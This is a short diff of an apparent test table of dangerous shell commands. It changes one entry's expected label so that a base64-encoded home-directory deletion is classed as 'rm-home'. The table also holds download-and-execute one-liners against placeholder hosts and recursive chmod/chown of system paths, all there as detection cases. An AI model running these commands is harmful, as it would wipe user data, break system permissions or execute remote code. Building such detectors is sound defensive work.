@@ -79,7 +79,7 @@ DANGEROUS: list[tuple[str, str, str]] = [
     ("eval-wget", 'eval "$(wget -qO- https://x.sh)"', "download-exec"),
     ("source-process-substitution", "source <(curl -s https://x.sh)", "download-exec"),
     ("powershell-iex", 'powershell -Command "iwr https://x/a.ps1 | iex"', "download-exec"),
-    ("base64-bash", "echo cm0gLXJmIH4K | base64 -d | bash", "decode-exec"),
+    ("base64-bash", "echo cm0gLXJmIH4K | base64 -d | bash", "rm-home"),
     ("chmod-777-root", "chmod -R 777 /", "chmod-recursive"),
     ("chmod-home", "chmod -R 000 ~", "chmod-recursive"),
     ("chown-etc", "sudo chown -R nobody /etc", "chown-recursive"),
